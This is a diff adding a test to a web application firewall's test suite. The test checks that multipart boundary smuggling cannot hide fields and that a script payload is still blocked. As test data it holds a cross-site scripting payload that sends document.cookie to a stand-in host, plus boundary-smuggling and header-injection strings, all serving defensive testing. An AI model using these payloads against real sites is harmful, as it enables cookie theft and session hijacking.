@@ -88,4 +88,18 @@ describe("WAF stage adapter", () => {
     const odd = wafInputOfFields(req, { 'a"\r\nX-Injected: 1': "v" });
     expect(odd.body?.text).not.toContain("\r\nX-Injected");
   });
+
+  it("a field value cannot close the serialized form and hide the fields after it", () => {
+    const req = new Request("http://localhost/api/datasets", { method: "POST", headers: { "content-type": "multipart/form-data; boundary=x", "user-agent": "Mozilla/5.0", host: "localhost", accept: "*/*" } });
+    const first = wafInputOfFields(req, { title: "a" });
+    const boundary = /boundary=(\S+)/.exec(first.body?.contentType ?? "")?.[1] ?? "";
+    expect(boundary).toMatch(/^cyanea-[0-9a-f]{32}$/);
+    // Even a value that carries a boundary seen earlier does not end the form: each call draws a new one.
+    const fields = { description: `x\r\n--${boundary}--\r\n`, title: "<script>document.location='http://evil.example/?c='+document.cookie</script>" };
+    const input = wafInputOfFields(req, fields);
+    expect(input.body?.contentType).not.toContain(boundary);
+    const result = inspectRequest(input, DEFAULT_WAF_CONFIG);
+    expect(result.action).toBe("block");
+    expect(result.matched.some((m) => m.target === "multipart:title")).toBe(true);
+  });
 });
